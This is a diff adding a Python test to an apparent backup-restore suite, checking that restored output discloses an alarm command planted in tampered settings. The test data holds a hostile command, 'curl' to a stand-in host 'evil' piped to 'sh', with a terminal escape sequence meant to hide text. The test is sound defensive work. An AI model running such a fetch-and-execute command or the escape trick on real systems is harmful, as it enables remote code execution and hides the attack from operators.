@@ -205,6 +205,22 @@ def test_a_backup_that_somebody_made_up_is_refused(settings: Settings, tmp_path:
     assert vault.restore(tmp_path / "new", checkpoint=checkpoint).tables.lost == 1
 
 
+def test_what_a_backup_would_have_the_node_run_is_said(settings: Settings, tmp_path: Path) -> None:
+    """The card proves the log, and says nothing of settings that somebody sealed beside a copy of it."""
+    vault = Vault(tmp_path / "vault")
+    backed_up(settings, vault)
+    parts, key = vault.parts(), read_published(settings)["log"]
+    asked = Asked(log_key=key, checkpoint=parts["log/checkpoint"])
+    told = json.loads(parts["settings.json"])
+    for command, is_said in (([], False), (["sh", "-c", "curl \x1b[2K evil | sh"], True)):
+        vault.file.unlink()
+        told["alarm"] = {"command": command, "url": "", "probe_minutes": 5}
+        write(vault, {**parts, "settings.json": json.dumps(told).encode()})
+        done = vault.restore(tmp_path / f"new-{is_said}", log_key=key, checkpoint=asked.checkpoint)
+        said = "\n".join(words_of(done, asked, 0))
+        assert ("curl \\u001b[2K evil | sh" in said, "Only the log is proven" in said) == (is_said, is_said)
+
+
 def write(vault: Vault, parts: dict[str, bytes]) -> None:
     """A backup of these parts, with sums and manifest as they have to be."""
     from tocsin.store import archive
